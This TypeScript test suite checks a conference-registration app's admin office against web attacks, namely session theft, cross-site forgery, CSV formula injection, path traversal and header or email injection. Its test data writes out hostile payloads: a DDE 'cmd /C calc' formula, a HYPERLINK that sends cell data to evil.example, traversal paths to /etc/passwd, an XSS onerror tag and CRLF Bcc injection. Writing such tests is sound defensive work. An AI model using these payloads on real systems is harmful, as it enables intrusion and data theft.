/** Attacks on the office: sessions, other sites' pages, formulas in exports, crafted URLs. */
import { cpSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ADMIN } from '../browser/serve.ts'
import { ALL_RUNS } from '../runs.ts'
import { createPdf } from '../server/sample-uploads.ts'
import { placeOrder, clickPaymentButton, waitForStatus } from './gateway.ts'
import {
  findChanges,
  CODED_EVENT_ID,
  CODED_REGISTER,
  codedDelegate,
  runCommand,
  delegate,
  buildForm,
  createAddress,
  postgraduate,
  createProof,
  registerDelegate,
  listRoutes,
  signInAsAdmin,
  startTarget,
  REGISTER,
} from './target.ts'
import type { Route, Target } from './target.ts'

let target: Target
/** Every route with existing values for its parameters, so that an authorised request would have an effect. */
let routes: readonly Route[]
let paidRegNo: string
beforeAll(async () => {
  target = await startTarget()
  const { regNo, data } = await registerDelegate(target)
  await clickPaymentButton(await placeOrder(data), 'pay')
  await waitForStatus(target, regNo, 'success')
  paidRegNo = regNo
  routes = (await listRoutes()).map(({ method, path }) => ({
    method,
    path: path
      .replaceAll(/:id\b/g, 'afpicon2026')
      .replaceAll(/:field\b/g, 'pg_proof')
      .replaceAll(/:\w+|\{\w+\}/g, regNo)
      .replaceAll('*', 'nothing-here'),
  }))
})
afterAll(() => target.stop())

const buildCookie = (token: string): Readonly<Record<string, string>> => ({
  cookie: `rollcall_session=${token}`,
})
const readSessionStatus = async (headers: Readonly<Record<string, string>>): Promise<number> =>
  (await target.send({ path: '/admin/session/', headers })).status
/** Returns the routes that respond with 401 without a session. */
const findGuardedRoutes = async (
  isIncluded: (method: string) => boolean,
): Promise<readonly Route[]> => {
  const guardedRoutes: Route[] = []
  for (const { method, path } of routes.filter((route) => isIncluded(route.method)))
    if ((await target.send({ method, path })).status === 401) guardedRoutes.push({ method, path })
  return guardedRoutes
}
const isReadMethod = (method: string): boolean => method === 'GET' || method === 'HEAD'

describe('a session', () => {
  test(
    'that was stolen gives no access to any office route after the user signs out',
    { tags: ['slow'] },
    async () => {
      const token = await signInAsAdmin(target)
      const headers = { ...buildCookie(token), origin: target.url, 'sec-fetch-site': 'same-origin' }
      expect((await target.send({ method: 'POST', path: '/admin/logout/', headers })).status).toBe(
        200,
      )
      const guardedCalls = await findGuardedRoutes(() => true)
      expect(guardedCalls.length).toBeGreaterThan(20)
      const snapshotBefore = target.readSnapshot()
      for (const { method, path } of guardedCalls)
        for (const stolenHeaders of [headers, { authorization: `Bearer ${token}` }])
          expect([
            path,
            (await target.send({ method, path, headers: stolenHeaders })).status,
          ]).toEqual([path, 401])
      expect(findChanges(snapshotBefore, target.readSnapshot())).toEqual({})
    },
  )

  test('set before the sign-in is invalid afterwards: the token is always new', async () => {
    const chosenToken = 'A'.repeat(43)
    const loginResponse = await target.post(
      '/admin/login/',
      ADMIN,
      createAddress(),
      buildCookie(chosenToken),
    )
    expect(loginResponse.status).toBe(200)
    expect(loginResponse.headers.get('set-cookie')).not.toContain(chosenToken)
    expect(await readSessionStatus(buildCookie(chosenToken))).toBe(401)
    const newToken = await signInAsAdmin(target)
    expect(loginResponse.body).not.toContain(newToken)
  })

  test('is a cookie that expires, that scripts cannot read and that other sites cannot send', async () => {
    const response = await target.post('/admin/login/', ADMIN)
    const [value = '', ...flags] = (response.headers.get('set-cookie') ?? '').split('; ')
    expect(value).toMatch(/^rollcall_session=[\w-]{43}$/)
    expect(flags.toSorted()).toEqual(['HttpOnly', 'Max-Age=43200', 'Path=/', 'SameSite=Strict'])
  })

  test.each([
    ['', 401],
    [' ', 401],
    ['"', 401],
    ["' OR 1=1 --", 401],
    ['%00', 401],
    ['x'.repeat(8000), 401],
    ['null', 401],
    ['undefined', 401],
    ['rollcall_session', 401],
  ])('that is %j belongs to no user', async (token, status) => {
    expect(await readSessionStatus({ cookie: `rollcall_session=${token}` })).toBe(status)
    expect(await readSessionStatus({ authorization: `Bearer ${token}` })).toBe(status)
  })

  test(
    'from yesterday has expired, and so has a session that was idle for two hours',
    { tags: ['slow'] },
    async () => {
      const token = await signInAsAdmin(target)
      expect(await readSessionStatus(buildCookie(token))).toBe(200)
      const laterTarget = await startTarget({ CLOCK: '2025-10-10T14:30:00+05:30' }, ({ dataDir }) =>
        cpSync(target.dataDir, dataDir, { recursive: true }),
      )
      try {
        const { status } = await laterTarget.send({
          path: '/admin/session/',
          headers: buildCookie(token),
        })
        expect(status).toBe(401)
        expect((await laterTarget.send({ path: '/admin/session/' })).status).toBe(401)
      } finally {
        await laterTarget.stop()
      }
    },
  )
})

describe('a page of another site', () => {
  const foreignOrigins: readonly (readonly [label: string, Readonly<Record<string, string>>])[] = [
    ['states its origin', { origin: 'https://evil.example' }],
    ['hides its origin', { origin: 'null' }],
    ['sends no headers', {}],
    ['is reported by the browser', { 'sec-fetch-site': 'cross-site' }],
    ['is a sibling domain', { 'sec-fetch-site': 'same-site', origin: 'http://127.0.0.1:1' }],
    ['states a false origin', { 'sec-fetch-site': 'cross-site', origin: 'http://rollcall.test' }],
  ]
  const requestBodies = [
    ['text/plain', '{"why":"x"}'],
    ['application/x-www-form-urlencoded', 'why=x&what=accept&amount=1'],
    ['multipart/form-data; boundary=x', '--x--'],
  ] as const

  test("cannot change anything through any route, even with an admin's cookie", async () => {
    const guardedCalls = await findGuardedRoutes((method) => !isReadMethod(method))
    // The sign-out route returns success without a session, but another site must not sign a user out.
    const logoutRoutes = routes.filter(({ path }) => path.includes('logout'))
    for (const path of [
      `/admin/registrations/${paidRegNo}/acts/`,
      '/admin/codes/',
      '/admin/codes/withdraw/',
    ])
      expect(guardedCalls.map((call) => call.path)).toContain(path)
    expect(logoutRoutes.length).toBeGreaterThan(0)
    const token = await signInAsAdmin(target)
    const snapshotBefore = target.readSnapshot()
    const requestVariants = foreignOrigins.flatMap(([label, origin]) =>
      requestBodies.map(([type, body]) => ({ what: label, origin, type, body })),
    )
    // Each route is called with three of the variants, the next route with the next three, and so on.
    const selectVariants = (index: number): typeof requestVariants =>
      ALL_RUNS
        ? requestVariants
        : [0, 1, 2].flatMap((n) => requestVariants[(3 * index + n) % requestVariants.length] ?? [])
    for (const [index, { method, path }] of [...guardedCalls, ...logoutRoutes].entries())
      for (const { what: label, origin, type, body } of selectVariants(index)) {
        const headers = { ...buildCookie(token), ...origin, 'content-type': type }
        const { status } = await target.send({ method, path, headers, body })
        expect([path, label, type, status >= 400 && status < 500 && status !== 401]).toEqual([
          path,
          label,
          type,
          true,
        ])
        if (type === 'application/x-www-form-urlencoded')
          expect([path, label, status]).toEqual([path, label, 403])
      }
    expect(findChanges(snapshotBefore, target.readSnapshot())).toEqual({})
    expect(await readSessionStatus(buildCookie(token))).toBe(200)
    // The same request from our own page succeeds, so the requests above were not rejected for another reason.
    const ownHeaders = { ...buildCookie(token), 'sec-fetch-site': 'same-origin' }
    const path = `/admin/registrations/${paidRegNo}/acts/`
    const headers = { ...ownHeaders, 'content-type': 'application/json' }
    const body = JSON.stringify({ act: 'note', why: 'Ours.' })
    expect((await target.send({ method: 'POST', path, headers, body })).status).toBe(200)
  })

  test('cannot sign a browser in, whatever it sends', async () => {
    const snapshotBefore = target.readSnapshot()
    for (const path of routes
      .filter((route) => route.path.includes('login') && !isReadMethod(route.method))
      .map((route) => route.path))
      for (const [label, origin] of foreignOrigins.filter(([, headers]) => 'origin' in headers)) {
        const response = await target.post(path, ADMIN, createAddress(), origin)
        expect([label, response.status, response.headers.get('set-cookie')]).toEqual([
          label,
          403,
          undefined,
        ])
      }
    expect(findChanges(snapshotBefore, target.readSnapshot())).toEqual({})
  })

  test(
    'cannot change anything through links or images, apart from entries in the audit log',
    { tags: ['slow'] },
    async () => {
      const token = await signInAsAdmin(target)
      const snapshotBefore = target.readSnapshot()
      for (const { path } of routes.filter(({ method }) => method === 'GET'))
        await target.send({
          path,
          headers: { ...buildCookie(token), 'sec-fetch-site': 'cross-site' },
        })
      const { audit_log: _auditEntries, ...changedTables } = findChanges(
        snapshotBefore,
        target.readSnapshot(),
      )
      expect(changedTables).toEqual({})
      expect(await readSessionStatus(buildCookie(token))).toBe(200)
    },
  )

  test(
    'gets no information: no response can be read, framed or inferred',
    { tags: ['slow'] },
    async () => {
      const token = await signInAsAdmin(target)
      for (const { path } of routes.filter(({ method }) => method === 'GET')) {
        const headers = { ...buildCookie(token), origin: 'https://evil.example' }
        const response = await target.send({ path, headers })
        const readHeader = (name: string): string => response.headers.get(name) ?? ''
        expect([path, readHeader('access-control-allow-origin')]).toEqual([path, ''])
        expect([path, readHeader('x-content-type-options')]).toEqual([path, 'nosniff'])
        expect([
          path,
          /frame-ancestors 'none'/.test(readHeader('content-security-policy')),
        ]).toEqual([path, true])
      }
    },
  )
})

describe('an export of the office', () => {
  /** Characters that spreadsheets treat as the start of a formula, including their full-width forms. */
  const formulaStarts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
  const formulas = [
    ...formulaStarts.map((formulaStart) => `${formulaStart}1+1`),
    ...formulaStarts.map((formulaStart) => ` ${formulaStart}1+1`),
    ...formulaStarts.map((start) => `x;${start}1+1;y`),
    ...formulaStarts.map((start) => `x\t${start}1+1`),
    ...formulaStarts.map((start) => `x\r\n${start}1+1`),
    ...formulaStarts.map((start) => `x\r${start}1+1`),
    ...formulaStarts.map((start) => `x",${start}1+1`),
    ...formulaStarts.map((start) => `\u200b${start}1+1`),
    ...formulaStarts.map((start) => `\ufeff${start}1+1`),
    ...formulaStarts.map((start) => `\u200d${start}1+1`),
    ...formulaStarts.map((start) => `\ufe0f\u200c${start}1+1`),
    ...formulaStarts.map((start) => `x;\u200d${start}1+1`),
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+919876543210',
  ]
  /**
   * Splits a line as spreadsheets do: at commas, or at semicolons or tabs, depending on the locale. At semicolons and
   * tabs, a quote in the middle of a cell does not group anything.
   */
  const splitCells = (csv: string): readonly string[] => [
    ...(parse(csv, { bom: true }) as string[][]).flat(),
    ...csv.split(/[\r\n;\t]/),
  ]
  const isFormula = (cell: string): boolean =>
    cell
      .split(/[\r\n]/)
      .some((line) => /^["\s\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u.test(line)) &&
    !/^\+\d[\d ()-]*$/.test(cell) &&
    // An amount is a number in every spreadsheet.
    !/^-\d+\.\d\d$/.test(cell)

  test('contains no formula from a delegate, whatever the separator', async () => {
    let acceptedCount = 0
    for (const formula of formulas) {
      const { status } = await target.post(REGISTER, {
        ...delegate,
        full_name: formula,
        designation: formula,
        city: formula,
      })
      expect([formula, [201, 422].includes(status)]).toEqual([formula, true])
      if (status === 201) acceptedCount += 1
    }
    expect(acceptedCount).toBeGreaterThan(20)
    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
    for (const path of ['/admin/export/?event_type=afpicon', '/afpicon/download-csv/']) {
      const { status, body } = await target.send({ path, headers })
      expect(status).toBe(200)
      expect(body).toContain('1+1')
      expect(splitCells(body).filter(isFormula)).toEqual([])
    }
  })

  test('contains no formula from accompanying people, member lists or discount codes, even with one row per person', async () => {
    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
    const file = join(target.dataDir, 'roll.csv')
    writeFileSync(
      file,
      'number,name,kind,valid_to\n=1+1,"=HYPERLINK(""http://evil.example"",""see"")",life,\n',
    )
    await runCommand(target, 'event', 'members', CODED_EVENT_ID, 'society', file)
    const codesResponse = await target.post(
      '/admin/codes/',
      { event: CODED_EVENT_ID, kind: 'coupon', code: '=1+1+1+1+1+1', note: '=1+1', uses: 99 },
      createAddress(),
      headers,
    )
    expect(codesResponse.status).toBe(201)
    for (const [index, formula] of formulas.entries()) {
      const { status } = await target.post(CODED_REGISTER, {
        ...codedDelegate,
        full_name: `Delegate ${index}`,
        email: `delegate${index}@example.org`,
        code: '=1+1+1+1+1+1',
        number: '=1+1',
        companions: [{ name: formula }, { name: 'A Person' }],
      })
      expect([formula, [201, 422].includes(status)]).toEqual([formula, true])
    }
    const listResponse = await target.send({
      path: `/admin/export/?event_type=${CODED_EVENT_ID}`,
      headers,
    })
    const exportOutput = await runCommand(
      target,
      'registration',
      'export',
      CODED_EVENT_ID,
      '--per',
      'companions',
    )
    for (const csv of [listResponse.body, exportOutput]) {
      expect(csv).toContain('1+1')
      expect(splitCells(csv).filter(isFormula)).toEqual([])
    }
  })

  test.each([
    ['a kind', { kind: '__proto__' }],
    ['a number of uses', { uses: 1e21 }],
    ['a number of codes', { count: '1e3' }],
    ['an expiry date', { until: '9999-99-99' }],
    ['a note', { note: 'x'.repeat(100_000) }],
    ['a code', { code: '\u0000\u202e' }],
    ['an event', { event: ['afpicon2026'] }],
    ['everything', { event: { id: CODED_EVENT_ID }, kind: [], code: {}, uses: [], count: null }],
  ])('never receives a discount code with invalid data: %s', async (_what, fields) => {
    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
    const snapshotBefore = target.readSnapshot()
    for (const path of ['/admin/codes/', '/admin/codes/withdraw/']) {
      const codeFields = { event: CODED_EVENT_ID, kind: 'coupon', ...fields }
      const { status } = await target.post(path, codeFields, createAddress(), headers)
      expect([path, status >= 400 && status < 500]).toEqual([path, true])
    }
    const {
      audit_log: _auditRows,
      sessions: _ownSessions,
      ...changedTables
    } = findChanges(snapshotBefore, target.readSnapshot())
    expect(changedTables).toEqual({})
  })

  test('negative control: the check detects a formula', () => {
    for (const csv of ['=1+1\r\n', 'a,"=1+1"\r\n', 'a,b;=1+1\r\n', 'a\t＝1\r\n', '"x\r\n=1+1"\r\n'])
      expect([csv, splitCells(csv).some(isFormula)]).toEqual([csv, true])
    expect(splitCells("'=1+1,+919876543210,a\r\n").some(isFormula)).toBe(false)
  })
})

describe('a crafted URL', () => {
  const fileContent =
    /SQLite format 3|"name": "rollcall"|root:[x*]:0|DATA_DIR|BEGIN [A-Z ]*PRIVATE KEY/
  const parentPaths = [
    '..',
    '%2e%2e',
    '..%2f',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '%252e%252e%252f',
    '..%c0%af',
    '....//',
  ]
  test.each(parentPaths)('with %s does not read any file', async (parentPath) => {
    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
    const buildPath = (name: string): string => `${`${parentPath}/`.repeat(6)}${name}`
    for (const path of [
      `/assets/${buildPath('package.json')}`,
      `/assets/${parentPath}/${parentPath}/${parentPath}/package.json`,
      `/${buildPath('etc/passwd')}`,
      `/api/events/${buildPath('package.json')}/file/`,
      `/api/events/afpicon2026/${buildPath('rollcall.db')}`,
      `/admin/registrations/${paidRegNo}/files/${buildPath('rollcall.db')}/`,
      `/admin/registrations/${paidRegNo}/files/${encodeURIComponent(buildPath('rollcall.db'))}/`,
      `/admin/registrations/${buildPath('rollcall.db')}/`,
      `/admin/export/?event_type=${buildPath('rollcall.db')}`,
      `/assets/%00${buildPath('package.json')}%00.js`,
    ]) {
      const response = await target.send({ path, headers })
      expect([path, fileContent.test(response.body)]).toEqual([path, false])
      expect([path, response.status < 500]).toEqual([path, true])
    }
  })

  test('with line breaks does not add a response header', { tags: ['slow'] }, async () => {
    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
    const text = '%0d%0aSet-Cookie:%20a=b%0aSet-Cookie:%20c=d%E5%98%8A%E5%98%8DSet-Cookie:%20e=f'
    const queryParts = ['orderId', 'event_type', 'search', 'date_from'].map(
      (name) => `${name}=${text}`,
    )
    for (const { method, path } of routes.filter((route) => !route.path.includes('logout')))
      for (const url of [`${path}?${queryParts.join('&')}`, `${path}${text}`]) {
        const response = await target.send({ method, path: url, headers })
        expect([url, response.headers.get('set-cookie')]).toEqual([url, undefined])
      }
  })

  test('does not insert markup into any page', async () => {
    const markup = '<img src=x onerror=alert(1)>'
    for (const { path } of routes.filter(({ method }) => method === 'GET')) {
      const text = encodeURIComponent(markup)
      const response = await target.send({
        path: `${path}?orderId=${text}&message=${text}&amount=${text}&date=${text}`,
      })
      expect([path, response.body.includes(markup)]).toEqual([path, false])
    }
  })
})

describe('a crafted name', () => {
  const injectedName = 'Asha\r\nBcc: mallory@evil.example\r\n\r\n<b>'
  test('with line breaks does not add an email header or a recipient', async () => {
    const { regNo, data } = await registerDelegate(target, { ...delegate, full_name: injectedName })
    await clickPaymentButton(await placeOrder(data), 'pay')
    await waitForStatus(target, regNo, 'success')
    const mailDir = join(target.dataDir, 'mail')
    const listEmailFiles = (): readonly string[] =>
      readdirSync(mailDir)
        .map((name) => readFileSync(join(mailDir, name), 'utf8'))
        .filter((text) => text.includes(regNo))
    await expect.poll(listEmailFiles, { timeout: 200_000 }).toHaveLength(1)
    const [emailHeaders = ''] = (listEmailFiles()[0] ?? '').split(/\r?\n\r?\n/)
    expect(emailHeaders).toMatch(/^To: asha@example\.org$/m)
    expect(emailHeaders).not.toContain('mallory')
  })

  test.each([
    'x@example.org\r\nBcc: mallory@evil.example',
    'x@example.org, mallory@evil.example',
    'x@example.org;mallory@evil.example',
    '"x\r\n"@example.org',
  ])('is rejected as the email address %j', async (email) => {
    const snapshotBefore = target.readSnapshot()
    const { status } = await target.post(REGISTER, { ...delegate, email })
    expect([status, findChanges(snapshotBefore, target.readSnapshot())]).toEqual([422, {}])
  })

  test('as an email address is stored without invisible characters, and no email has two recipients', async () => {
    for (const email of ['x@example.org\u0000', '<x@example.org>', 'x@example.org\u0008'])
      await target.post(REGISTER, { ...delegate, email })
    for (const { email } of target.readRows('SELECT email FROM registrations'))
      expect(email).toMatch(/^<?[\w.]+@example\.org>?$/)
  })

  test.each([
    '../../../evil.pdf',
    'a\r\nSet-Cookie: a=b.pdf',
    'a";filename=evil.exe;x=".pdf',
    '\u202efdp.exe.pdf',
    'C:\\a.pdf',
    'ʕ•ᴥ•ʔ.pdf',
  ])(
    'as a file name, %j, stays in the upload folder and is sent as a plain name',
    async (filename) => {
      const { headers, body } = buildForm(postgraduate, [
        createProof(
          createPdf(filename),
          filename.replaceAll('\r\n', '%0D%0A').replaceAll('"', '%22'),
        ),
      ])
      const response = await target.send({ method: 'POST', path: REGISTER, headers, body })
      expect([201, 422]).toContain(response.status)
      if (response.status === 422) return
      const { reg_no } = JSON.parse(response.body) as { reg_no: string }
      const download = await target.send({
        path: `/admin/registrations/${reg_no}/files/pg_proof/`,
        headers: { authorization: `Bearer ${await signInAsAdmin(target)}` },
      })
      expect(download.status).toBe(200)
      expect(download.headers.get('set-cookie')).toBe(undefined)
      expect(download.headers.get('content-disposition')).toMatch(
        /^attachment; filename="[ !#-[\]-~]*"; filename\*=UTF-8''[\w.~!%-]*$/,
      )
      expect(download.headers.get('content-security-policy')).toContain('sandbox')
      const storedFiles = readdirSync(join(target.dataDir, 'uploads'), {
        recursive: true,
        withFileTypes: true,
      })
        .filter((entry) => entry.isFile())
        .map(({ name }) => name)
      for (const name of storedFiles) expect(name).toMatch(/^[0-9a-f]{64}$/)
    },
  )
})
